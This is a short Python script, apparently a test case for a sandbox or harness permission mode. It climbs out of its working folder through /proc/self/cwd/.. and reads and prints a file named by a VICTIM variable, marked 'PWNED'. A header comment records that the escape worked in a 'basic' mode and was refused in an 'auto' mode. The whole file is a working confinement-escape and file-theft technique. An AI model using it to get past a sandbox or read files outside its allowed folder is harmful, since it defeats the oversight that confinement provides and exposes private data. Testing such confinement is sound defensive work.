# climbs out of its folder by /proc/self/cwd/.. | basic: works finished | auto: refused error
import os

up = "/proc/self/cwd" + "/.." * len(os.getcwd().strip("/").split("/"))
print("PWNED read", open(up + VICTIM).read())
